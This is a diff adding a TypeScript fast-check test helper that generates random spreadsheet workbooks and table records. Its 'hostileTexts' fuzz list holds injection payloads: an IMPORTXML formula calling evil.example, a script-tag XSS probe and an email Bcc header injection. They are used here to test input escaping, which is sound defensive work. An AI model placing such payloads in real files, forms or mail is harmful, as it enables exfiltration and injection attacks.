@@ -1,0 +1,110 @@
+/** Random workbooks as people make them: ragged rows, texts that look like formulas, dates, errors, accents. */
+import fc from 'fast-check';
+import { writeCell } from '../../src/core/cells.ts';
+import type { AnyRecord, Column, Table } from '../../src/core/table.ts';
+import type { Cell, Grid, Workbook } from '../../src/core/workbook.ts';
+
+/** Texts that have broken spreadsheets, forms and mails before. */
+export const hostileTexts = [
+  '=IMPORTXML("http://evil.example";"//a")',
+  '+33 6 39 98 11 22',
+  '-1+1',
+  '@SUM(A1)',
+  "'apostrophe",
+  '<script>alert(1)</script>',
+  'Objet\r\nBcc: tous@example.org',
+  '\u202eelpmaxe',
+  '0612345678',
+  '1/2',
+  'TRUE',
+  'é'.repeat(300),
+  '#REF!',
+  ' ',
+  '\u0000',
+] as const;
+
+/** One entered cell. */
+export const cell: fc.Arbitrary<Cell> = fc.oneof(
+  { weight: 4, arbitrary: fc.constant(null) },
+  { weight: 4, arbitrary: fc.string({ maxLength: 12 }).map((text) => (text === '' ? null : text)) },
+  { weight: 2, arbitrary: fc.constantFrom(...hostileTexts) },
+  {
+    weight: 3,
+    arbitrary: fc.double({ min: -1e6, max: 1e6, noNaN: true }).map((number) => Math.round(number * 100) / 100 + 0),
+  },
+  { weight: 1, arbitrary: fc.boolean() },
+  {
+    weight: 1,
+    arbitrary: fc.constantFrom('=SUM(A1:A3)', '=A1&"x;y"', '=1+1', '=IF(A1=1;"a,b";2)').map((formula) => ({ formula })),
+  },
+);
+
+/** A tab's content. */
+export const grid: fc.Arbitrary<Grid> = fc.array(fc.array(cell, { maxLength: 8 }), { maxLength: 12 });
+
+/** A workbook of her own tabs. */
+export const workbook: fc.Arbitrary<Workbook> = fc.dictionary(
+  fc.constantFrom('Feuille 1', 'Adhérents 2023', 'Locaux', "L'équipe", 'BP'),
+  grid,
+  { maxKeys: 4, noNullPrototype: true },
+);
+
+/** Some records of a table, with ids of its own. */
+export function records(table: Table): fc.Arbitrary<AnyRecord[]> {
+  const one = fc.record(Object.fromEntries(table.columns.slice(1).map((column) => [column.field, value(column)])));
+  const idField = table.columns[0]?.field ?? 'id';
+  return fc
+    .array(one, { maxLength: 6 })
+    .map((rows) =>
+      rows.map((row, index) => ({ [idField]: `${table.prefix}-${String(index + 1).padStart(4, '0')}`, ...row })),
+    );
+}
+
+function value(column: Column): fc.Arbitrary<AnyRecord[string]> {
+  const text = fc
+    .oneof(fc.string({ minLength: 1, maxLength: 20 }), fc.constantFrom(...hostileTexts))
+    .filter((one) => one.trim() !== '');
+  const day = fc
+    .date({ min: new Date('1950-01-01'), max: new Date('2060-12-31'), noInvalidDate: true })
+    .map((date) => date.toISOString().slice(0, 10));
+  const some = (): fc.Arbitrary<AnyRecord[string]> => {
+    switch (column.type) {
+      case 'id':
+      case 'text':
+        return text;
+      case 'list':
+        return fc.array(
+          text
+            .filter((one) => !one.includes(';'))
+            .map((one) => one.trim())
+            .filter((one) => one !== ''),
+          { maxLength: 3 },
+        );
+      case 'integer':
+        return fc.integer({ min: -1000, max: 100_000 });
+      case 'decimal':
+        return fc.double({ min: -1000, max: 1000, noNaN: true }).map((one) => one + 0);
+      case 'money':
+        return fc.integer({ min: -100_000_000, max: 100_000_000 });
+      case 'date':
+        return fc.tuple(day, fc.constantFrom(10, 7, 4)).map(([one, length]) => one.slice(0, length));
+      case 'time':
+        return fc
+          .integer({ min: 0, max: 1439 })
+          .map(
+            (minutes) =>
+              `${String(Math.floor(minutes / 60)).padStart(2, '0')}:${String(minutes % 60).padStart(2, '0')}`,
+          );
+      case 'yes_no':
+        return fc.boolean();
+      case 'choice':
+        return fc.constantFrom(...Object.keys(column.choices ?? {}));
+    }
+  };
+  return column.type === 'list' ? some() : fc.option(some(), { nil: null });
+}
+
+/** The cell form of a value, for tests that compare with what was entered. */
+export function cellOf(column: Column, one: AnyRecord[string]): Cell {
+  return writeCell(column, one);
+}
